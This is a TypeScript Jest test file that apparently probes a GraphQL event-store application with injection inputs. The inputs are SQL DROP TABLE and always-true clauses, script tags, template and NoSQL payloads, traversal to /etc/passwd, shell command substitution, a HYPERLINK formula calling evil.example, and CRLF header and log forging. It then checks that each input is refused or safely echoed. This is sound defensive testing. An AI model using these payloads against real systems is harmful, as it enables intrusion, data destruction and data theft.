import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { temporaryFolder } from '#event-store/testing';
import { everyQuestion } from '../e2e/whole-answers.js';
import { Attacked } from './attacked.js';
import { inputFor, mutations, saying, textsIn } from './inputs.js';
import { isLong, othersAreAnswered } from './meanwhile.js';
import { freshKey, mutationOf, townIn } from './town.js';
import { head, saidTo } from './wire.js';

const KAREN = 'coordinator/0183/karen';
const MARK = 'XINJECTEDX';

/** What means something to somebody on the way: a database, a browser, a log, a shell, a path. */
const TEXTS: readonly (readonly [string, string])[] = [
  ['SQL', `'; DROP TABLE guestPerson_g1; --${MARK}`],
  ['SQL that is always true', `${MARK}' OR '1'='1`],
  ['SQL of another database', `${MARK}"); ATTACH DATABASE '/tmp/x.db' AS x; --`],
  ['markup', `</td><script>alert("${MARK}")</script><img src=x onerror=alert(1)>`],
  ['a template', `${MARK}{{constructor.constructor('return process')()}}\${7*7}<%= 7*7 %>`],
  ['a query of another kind', `{"$ne":"${MARK}","$where":"1==1"}`],
  ['a path', `../../../../etc/passwd#${MARK}`],
  ['a path of another system', `..\\..\\windows\\${MARK}`],
  ['a command', `$(touch /tmp/${MARK}) \`id\` | cat; ${MARK}`],
  ['a formula', `=HYPERLINK("https://evil.example/${MARK}")`],
  ['a format', `%s%n%x %00 %0d%0a ${MARK}`],
  ['text from right to left', `${MARK} \u202egnp.exe\u2066`],
  ['letters upon letters', `${MARK} Z${'\u0351\u0329\u0346'.repeat(10)}`],
];
/** What is no text. */
const NO_TEXTS: readonly (readonly [string, string])[] = [
  ['a line break and a header', `${MARK}\r\nSet-Cookie: samspil-session=${MARK}`],
  ['a line of a log', `${MARK}\n2026-01-01 [Samspil] ERROR all is lost`],
  ['a null byte', `${MARK}\0.txt`],
  ['colours of a terminal', `\u001b[31m${MARK}\u001b[0m`],
  ['half a character', `${MARK}\ud800`],
];
const ALL = [...TEXTS, ...NO_TEXTS];
/** Each text is tried by somebody else: everything that there is to ask is more than one may ask so many times a minute. */
const trying = (text: string): string => `${KAREN}-${ALL.findIndex(([, one]) => one === text)}`;
const SHARES = 3;

/** In the short form, each text is tried on some of them, and each of them with some texts. */
const inTurn =
  (text: string) =>
  (_each: unknown, n: number): boolean =>
    isLong || n % SHARES === ALL.findIndex(([, one]) => one === text) % SHARES;

describe('a text that means something to somebody', () => {
  const folder = temporaryFolder();
  let attacked: Attacked;

  beforeAll(async () => {
    attacked = await Attacked.start(folder());
    await townIn(attacked, '0183');
  });
  afterAll(() => attacked.close());

  it.each(ALL)('%s, is taken as text or refused, wherever an input takes one', async (_what, text) => {
    for (const mutation of mutations.filter(inTurn(text))) {
      const inputs = [
        inputFor(mutation, text),
        ...textsIn(mutation).map((name) => ({ ...inputFor(mutation, 'Noget'), [name]: text })),
      ];
      for (const input of isLong ? inputs : inputs.slice(0, 1)) {
        const { status, body, text: said } = await saying(attacked, mutation, input);
        expect([mutation.name, status, said]).toEqual([
          mutation.name,
          200,
          expect.not.stringContaining('INTERNAL_SERVER_ERROR'),
        ]);
        expect(body.data.answer.__typename).toEqual(expect.any(String));
      }
    }
  });

  it.each(ALL)('%s, is taken as text or refused as a key, and in every argument of a query', async (_what, text) => {
    const keyed = await attacked.ask(trying(text), mutationOf('recordGuest'), {
      input: { name: 'Gerda' },
      key: text.slice(0, 60),
    });
    expect([keyed.status, keyed.text]).toEqual([200, expect.not.stringContaining('INTERNAL')]);
    const about = {
      id: text,
      ids: [text],
      people: [text],
      first: 1,
      after: text,
      index: text,
      token: text,
      from: text,
      until: text,
      time: text,
    };
    for (const { declared, field, variables } of everyQuestion(about, () => 'coordinator').filter(inTurn(text))) {
      const { status, text: said } = await attacked.ask(
        trying(text),
        `query ${declared.length > 0 ? `(${declared.join(', ')})` : ''} { ${field} }`,
        variables,
      );
      expect([field.slice(0, 40), status < 500 && status !== 429, said]).toEqual([
        field.slice(0, 40),
        true,
        expect.not.stringContaining('INTERNAL'),
      ]);
    }
  });

  it.each(TEXTS)('%s, comes back letter by letter', async (_what, text) => {
    // Text is kept in its normal form, and a name in one direction.
    const same = text.normalize('NFC');
    const name = same
      .replace(/[\u202e\u2066]/gu, ' ')
      .replace(/\s+/g, ' ')
      .trim();
    const { body } = await attacked.ask(
      KAREN,
      mutationOf('recordGuest', '... on GuestChanged { guest { name needs } }'),
      { input: { name: text, needs: text }, key: freshKey() },
    );
    expect(body.data.answer).toEqual({ __typename: 'GuestChanged', guest: { name, needs: same } });
  });

  it.each(NO_TEXTS.slice(2))('%s, is refused as a name', async (_what, text) => {
    const { body } = await attacked.ask(KAREN, mutationOf('recordGuest'), { input: { name: text }, key: freshKey() });
    expect(body.data.answer).toMatchObject({ code: 'InvalidInput' });
  });

  // A name is written on lists, in calendars and in headers of letters, where a line break begins something else.
  it.each(NO_TEXTS.slice(0, 2))('%s, does not stay in a name', async (_what, text) => {
    const { body } = await attacked.ask(
      KAREN,
      `mutation ($input: RecordGuestInput!, $key: String!) {
        recordGuest(input: $input, idempotencyKey: $key) { ... on GuestChanged { guest { name } } }
      }`,
      { input: { name: text }, key: freshKey() },
    );
    expect(body.data.recordGuest.guest.name).toMatch(/^[^\r\n\u202e]+$/u);
  });

  it.each(ALL)('%s, in the parts of a document is no more than that', async (_what, text) => {
    for (const said of [
      text,
      `{ ${text} }`,
      `{ node(id: ${JSON.stringify(text)}) { id } }`,
      `query ${text} { __typename }`,
    ]) {
      const { status, text: told } = await attacked.ask(KAREN, said, { [text]: text });
      expect([status < 500, told]).toEqual([true, expect.not.stringContaining('INTERNAL')]);
    }
  });

  const PATHS = (text: string): readonly string[] => [
    `/audit/${text}/checkpoint`,
    `/audit/0183/proof/inclusion?index=${text}&size=${text}`,
    `/audit/0183/proof/consistency?from=${text}&from=${text}&to=`,
    `/forms/${text}`,
    `/forms/0183/${text}`,
    `/forms/0183/cafe?language=${text}`,
    `/sign-in?to=${text}`,
    `/signed-in?code=${text}&state=${text}&error=${text}`,
    `/graphql?query=${text}&variables=${text}`,
    `/${text}`,
    `/.well-known/${text}`,
  ];
  it.each(ALL)('%s, in an address leads nowhere, and no header comes of it', async (_what, text) => {
    for (const path of PATHS(encodeURIComponent(text.toWellFormed()))) {
      const {
        status,
        headers,
        text: page,
      } = await attacked.send(path, { headers: { 'apollo-require-preflight': '1' } });
      expect([path, status < 500]).toEqual([path, true]);
      expect(headers.get('set-cookie') ?? '').not.toContain(MARK);
      expect(headers.get('location') ?? '').not.toMatch(/evil|\/\/.*XINJ/);
      if (headers.get('content-type')?.includes('html')) expect(page).not.toMatch(/<script>alert|<img src=x/);
    }
  });

  it.each<[string, string]>([
    ['of a language', 'Accept-Language'],
    ['of a host', 'Host'],
    ['of a purpose', 'Samspil-Reading-For'],
    ['of an address', 'X-Forwarded-For'],
    ['of another host', 'X-Forwarded-Host'],
    ['of a cookie', 'Cookie'],
    ['of a credential', 'Authorization'],
    ['of a type', 'Content-Type'],
    ['of what is accepted', 'Accept'],
  ])('any of them, in the header %s is no more than that', async (_what, name) => {
    for (const [, text] of ALL.filter(([, each]) => !/\p{Cc}/u.test(each))) {
      for (const path of [
        '/graphql?query={__typename}',
        '/health',
        '/forms/0183',
        '/sign-in',
        '/.well-known/oauth-authorization-server',
      ]) {
        const raw = `${head(`GET ${path}`, 'Connection: close').trimEnd()}\r\n${name}: ${text}\r\n\r\n`;
        const said = await saidTo(attacked.port, Buffer.from(raw, 'utf8'));
        expect([path, said.slice(0, 12)]).toEqual([path, expect.stringMatching(/^HTTP\/1\.1 [234]/)]);
        expect(said).not.toContain(MARK);
      }
    }
  });

  it('leaves nothing in the log of the process, and every table where it was', async () => {
    expect(attacked.said).not.toContain(MARK);
    expect(attacked.said).not.toContain('\u001b[31m');
    const { body } = await attacked.ask(
      KAREN,
      '{ guests(first: 1) { edges { node { name } } } volunteers(first: 1) { edges { node { name } } } }',
    );
    expect([body.data.guests.edges.length, body.data.volunteers.edges.length]).toEqual([1, 1]);
    expect((await attacked.send('/health')).body).toMatchObject({ well: true });
  });

  it('again and again keeps nobody from being answered', async () => {
    let next = 0;
    await othersAreAnswered(
      'injection',
      attacked,
      () =>
        attacked.ask('coordinator/0183/mallory', 'query ($id: ID!) { node(id: $id) { id } }', {
          id: ALL[next++ % ALL.length]?.[1],
        }),
      1,
    );
  });
});
